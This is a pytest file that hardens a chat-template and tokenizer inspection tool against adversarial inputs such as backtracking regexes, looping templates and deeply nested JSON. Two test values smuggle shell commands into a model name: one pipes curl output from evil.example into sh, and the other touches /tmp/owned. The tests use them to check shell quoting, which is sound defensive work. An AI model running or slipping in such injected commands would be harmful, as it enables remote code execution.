"""fit (and the build's and card's chat templates) on what an adversary controls (issue 38, items 1, 2, 4, 6, 11,
14): the candidates' regular expressions and the given template run where they can be stopped, with a time and
a memory limit; the shape detection is linear; the suggested command is quoted for a shell; a tokenizer.json
is read whole. Fixture: tests/fixtures/hostile.py (a parser whose own regex backtracks exponentially).

A command that would hang before the fix runs as its own process with a bound (fixtures.loopback.HANG): the
bound turns a hang into a failure; what is asserted is the answer, never how long it took.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys

import pytest
from fixtures.helpers import build_tags, make_repo, rows, tpindex
from fixtures.hostile import ENDLESS, HISTORY, LOOPS
from fixtures.loopback import EXE, HANG


def run(*args: str, stdin: str | None = None, limit_memory: int | None = None) -> subprocess.CompletedProcess:
    def limited():
        if limit_memory:
            import resource

            resource.setrlimit(resource.RLIMIT_AS, (limit_memory, limit_memory))

    return subprocess.run(
        [EXE, *map(str, args)],
        **({"input": stdin} if stdin is not None else {"stdin": subprocess.DEVNULL}),
        capture_output=True,
        text=True,
        timeout=HANG,
        preexec_fn=limited if limit_memory else None,
    )


def one_line_error(r: subprocess.CompletedProcess, *words: str) -> None:
    assert r.returncode == 2, (r.returncode, r.stdout[-2000:], r.stderr[-2000:])
    assert "Traceback" not in r.stderr and r.stderr.startswith("Error: "), r.stderr
    for w in words:
        assert w in r.stderr, r.stderr


# -- 1. a candidate's own regular expression that backtracks ----------------------------------------------------


def test_a_regex_that_backtracks_on_the_output_is_stopped_at_fits_time_limit(hostile_db, tmp_path):
    out = tmp_path / "out.txt"
    out.write_text(ENDLESS)
    one_line_error(
        run("fit", out, "--db", hostile_db, "--time-limit", "2"), "fit took longer than its time limit (2 s)"
    )


def test_fit_still_answers_an_ordinary_output(hostile_db, tmp_path):
    out = tmp_path / "out.txt"
    out.write_text('<tg_call>\n{"name": "get_weather", "arguments": {"city": "Paris"}}\n</tg_call>')
    r = run("fit", out, "--db", hostile_db, "--format", "json")
    assert r.returncode == 0, r.stderr
    answer = json.loads(r.stdout)
    assert answer["tool"][0]["name"] == "tagged" and answer["fits"]


# -- 2. templates without limits ------------------------------------------------------------------------------


def test_a_template_that_loops_is_stopped_at_fits_time_limit(hostile_db, tmp_path):
    t = tmp_path / "chat.jinja"
    t.write_text(LOOPS + "{% for m in messages %}{{ m.content }}{% endfor %}")
    one_line_error(
        run("fit", t, "--db", hostile_db, "--time-limit", "2"), "fit took longer than its time limit"
    )


def test_a_template_that_renders_without_end_is_cut_at_the_most_a_render_makes(hostile_db, tmp_path):
    t = tmp_path / "chat.jinja"
    t.write_text(
        LOOPS.replace("%}{%- endfor", "%}x{%- endfor", 1)
        + "{% for m in messages %}{{ m.content }}{% endfor %}"
    )
    r = run("fit", t, "--db", hostile_db, "--format", "json")
    assert r.returncode == 0, r.stderr
    assert any("renders more than" in n for n in json.loads(r.stdout)["observed"]["notes"])


@pytest.mark.parametrize(
    ("expression", "said"),
    [('"a" * 1500000000', "repeats a value into more than"), ("9 ** (9 ** 9)", "raises a number past")],
)
def test_a_template_building_a_huge_value_is_refused_by_the_sandbox(hostile_db, tmp_path, expression, said):
    """`{{ "a" * 1500000000 }}` took fit to 5.9 GB: refused before it is made (the process here may not grow
    past 3 GB)."""
    t = tmp_path / "chat.jinja"
    t.write_text("{{ " + expression + " }}{% for m in messages %}{{ m.content }}{% endfor %}")
    r = run("fit", t, "--db", hostile_db, "--format", "json", limit_memory=3 << 30)
    assert r.returncode == 0, r.stderr
    notes = json.loads(r.stdout)["observed"]["notes"]
    assert any(said in n for n in notes), notes


BUILD_WITH_LIMIT = """
import sys
from indexer.extract import templates
templates.RENDER_SECONDS = 1.0
from indexer.cli.main import main
sys.argv = ["tpindex", *sys.argv[1:]]
main()
"""


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_repository_whose_shipped_template_loops_is_built(tmp_path, jobs):
    """The build renders each template blob in its workers: one that loops is stopped (at a render limit of
    1 s here) and stored as a template that does not render; the build goes on."""
    history = {
        "v0.32.0": {**HISTORY["v0.32.0"], "examples/tool_chat_template_backtrack.jinja": LOOPS},
        "v0.32.1": {"examples/tool_chat_template_other.jinja": "{{ messages | length }}"},
    }
    repo = make_repo(tmp_path / "repo", history)
    db = tmp_path / "t.db"
    r = subprocess.run(
        [
            sys.executable,
            "-c",
            BUILD_WITH_LIMIT,
            "build",
            "--repo",
            repo,
            "--tags",
            "v0.32.0..",
            "--db",
            db,
            "-j",
            jobs,
            "-q",
        ],
        capture_output=True,
        text=True,
        timeout=HANG,
    )
    assert r.returncode == 0, r.stderr
    assert rows(db, "select label from versions where status = 'complete' order by ord") == [
        ("v0.32.0",),
        ("v0.32.1",),
    ]
    (error,) = rows(
        db,
        "select r.error from template_renders r join version_files f on f.blob_id = r.blob_id"
        " where f.file = 'examples/tool_chat_template_backtrack.jinja' and f.version = 'v0.32.0'",
    )[0]
    assert "took longer than its time limit" in error, error
    card = json.loads(tpindex("card", "backtrack", "--db", db, "--at", "v0.32.0", "--format", "json").output)
    assert card["cards"][0]["name"] == "backtrack"


# -- 4. the shape detection is linear ----------------------------------------------------------------------------


def test_the_text_before_the_json_is_searched_in_a_bounded_tail(monkeypatch):
    """`'a' * 4000 + '{"name": ...}'` took 12.8 s a fit (the name-token pattern tried every start of the
    run to its end, once per candidate): what it searches is bounded whatever comes before the JSON."""
    from indexer.answers import markup

    seen = []

    class Counting:
        def __init__(self, pattern):
            self.pattern = pattern

        def search(self, text, *args):
            seen.append(len(text))
            return self.pattern.search(text, *args)

    monkeypatch.setattr(markup, "_NAME_TOKEN", Counting(markup._NAME_TOKEN))
    call = json.dumps({"name": "get_weather", "arguments": {"city": "Paris"}})
    for before in ("a" * 20_000, "x " * 50_000 + "get_weather<sep>"):
        got = markup.shapes(before + call)
        assert got[0] == "json", got
    assert seen and max(seen) <= markup.NAME_TOKEN_TAIL
    assert "name-token" in markup.shapes("x " * 50_000 + "get_weather<sep>" + call)


# -- 6. the suggested command is quoted for a shell ----------------------------------------------------------------

HOSTILE_NAME = "Qwen/Qwen3-8B; curl -s http://evil.example/x | sh #"


def tokenizer_config(name: str) -> str:
    template = (
        "{%- for message in messages %}{{- '<|turn|>' + message.role + '\\n' }}"
        "{%- if message.tool_calls %}{%- for tool_call in message.tool_calls %}"
        "{{- '<tg_call>\\n' + {'name': tool_call.function.name, 'arguments': tool_call.function.arguments}"
        " | tojson + '\\n</tg_call>' }}{%- endfor %}{%- else %}{{- message.content }}{%- endif %}"
        "{{- '<|end|>\\n' }}{%- endfor %}"
    )
    return json.dumps(
        {
            "name_or_path": name,
            "chat_template": template,
            "added_tokens_decoder": {
                "5": {"content": "<tg_call>", "special": False},
                "6": {"content": "</tg_call>", "special": False},
            },
        }
    )


@pytest.mark.parametrize("fmt", ["json", "text", "markdown"])
def test_the_serve_line_quotes_a_model_name_read_from_a_file(hostile_db, tmp_path, fmt):
    config = tmp_path / "tokenizer_config.json"
    config.write_text(tokenizer_config(HOSTILE_NAME))
    r = run("fit", config, "--db", hostile_db, "--format", fmt)
    assert r.returncode == 0, r.stderr
    if fmt == "json":
        line = json.loads(r.stdout)["serve"]
    else:
        (line,) = [
            x.removeprefix("=> ") for x in r.stdout.splitlines() if "vllm serve" in x and "--tool" in x
        ]
    assert shlex.split(line)[:3] == ["vllm", "serve", HOSTILE_NAME], line
    assert shlex.split(line)[3:6] == ["--enable-auto-tool-choice", "--tool-call-parser", "tagged"]


def test_the_card_serve_line_quotes_what_the_repository_named(tmp_path):
    odd = "tagged; touch /tmp/owned #"
    history = {"v0.32.0": dict(HISTORY["v0.32.0"])}
    history["v0.32.0"]["vllm/tool_parsers/__init__.py"] = history["v0.32.0"][
        "vllm/tool_parsers/__init__.py"
    ].replace('"tagged"', json.dumps(odd))
    db = tmp_path / "t.db"
    build_tags(make_repo(tmp_path / "repo", history), db, "v0.32.0")
    from indexer.api import Index

    ix = Index(db)
    line = ix.serve_line(ix.card(odd, kind="tool")).command
    assert shlex.split(line)[3:6] == ["--enable-auto-tool-choice", "--tool-call-parser", odd], line


# -- 11. deeply nested JSON ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["[" * 100_000, '{"a":' * 100_000, '{"added_tokens": ' + "[" * 100_000])
def test_deeply_nested_json_is_an_answer_or_one_line_not_a_recursion_error(hostile_db, tmp_path, text):
    f = tmp_path / "deep.json"
    f.write_text(text)
    r = run("fit", f, "--db", hostile_db)
    assert "Traceback" not in r.stderr and "RecursionError" not in r.stderr + r.stdout, r.stderr[-2000:]
    assert r.returncode in (0, 2), r.stderr
    if "added_tokens" in text:
        one_line_error(r, "not valid JSON")


# -- 14. a tokenizer.json over 4 MB is read whole ---------------------------------------------------------------


def test_a_tokenizer_json_larger_than_4_mb_is_read_whole(hostile_db, tmp_path):
    vocab = {f"\u0120tok{i:07d}": i for i in range(300_000)}
    data = {
        "added_tokens": [{"id": 300_000, "content": "<tg_call>", "special": True}],
        "normalizer": None,
        "model": {"type": "BPE", "vocab": vocab},
    }
    f = tmp_path / "tokenizer.json"
    f.write_text(json.dumps(data, ensure_ascii=False))
    assert os.path.getsize(f) > 4 << 20
    r = run("fit", f, "--db", hostile_db, "--format", "json")
    assert r.returncode == 0, r.stderr
    observed = json.loads(r.stdout)["observed"]
    assert observed["input"] == "tokenizer" and observed["vocabulary"] == 1, observed


def test_a_tokenizer_json_cut_short_is_refused_not_read_as_an_output(hostile_db, tmp_path):
    data = json.dumps({"added_tokens": [{"id": 1, "content": "<tg_call>"}], "model": {"vocab": {"a": 1}}})
    f = tmp_path / "tokenizer.json"
    f.write_text(data[: len(data) // 2])
    one_line_error(run("fit", f, "--db", hostile_db), "not valid JSON")


def test_a_file_past_what_fit_reads_is_refused_with_a_hint(hostile_db, tmp_path, monkeypatch):
    from indexer.answers import fitrun

    monkeypatch.setattr(fitrun, "MAX_TEXT", 1000)
    monkeypatch.setattr(fitrun, "MAX_JSON", 5000)
    f = tmp_path / "big.txt"
    f.write_text("x" * 2000)
    assert "larger than" in tpindex("fit", f, "--db", hostile_db, ok=False).output
    f.write_text(json.dumps({"added_tokens": [], "model": {"vocab": {f"t{i}": i for i in range(2000)}}}))
    result = tpindex("fit", f, "--db", hostile_db, ok=False)
    assert result.exit_code == 2 and "larger than" in result.output
